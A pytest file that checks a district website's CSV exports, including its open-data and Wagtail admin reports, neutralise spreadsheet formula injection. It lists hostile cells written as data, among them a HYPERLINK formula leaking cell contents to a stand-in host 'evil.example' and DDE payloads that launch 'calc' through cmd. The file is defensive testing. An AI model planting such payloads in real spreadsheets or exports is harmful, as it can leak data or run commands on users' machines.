"""Every CSV the site produces neutralises cells a spreadsheet would run as a formula (district.csv)."""

import csv
import io
from decimal import Decimal

import pytest

from district.csv import dict_writer, neutralise, writer
from tests.dong.factories import add_notice

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+HYPERLINK(1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


def test_ordinary_text_and_real_numbers_are_left_alone():
    assert neutralise("주민총회 안내") == "주민총회 안내"
    assert neutralise("a=b") == "a=b"
    assert neutralise(-3) == -3 and neutralise(Decimal("-1.5")) == Decimal("-1.5")
    assert neutralise(None) == "" and neutralise(True) == "True"


def test_writers_neutralise_every_cell():
    out = io.StringIO()
    writer(out).writerow(["ok", "=1+1", 5])
    dict_writer(out, fieldnames=["a", "b"]).writerow({"a": "@x", "b": "-y"})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["ok", "'=1+1", "5"], ["'@x", "'-y"]]


def test_open_data_csv_neutralises_hostile_notice_titles_and_tags(client, district):
    yeoksam = next(d for d in district if d.slug == "yeoksam-1")
    add_notice(yeoksam, '+HYPERLINK("http://evil.example")', tags=["-2+3+cmd|x"])
    text = client.get("/open-data/yeoksam-1.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"] == '\'+HYPERLINK("http://evil.example")'
    assert row["tags"].startswith("'-2+3+cmd|x")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_wagtail_admin_csv_exports_neutralise_page_titles(client, district, make_user):
    yeoksam = next(d for d in district if d.slug == "yeoksam-1")
    add_notice(yeoksam, '=HYPERLINK("http://evil.example","x")')
    client.force_login(make_user(is_superuser=True))
    response = client.get("/admin/reports/aging-pages/", {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    titles = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert titles and all(cell.startswith("'=") for cell in titles)
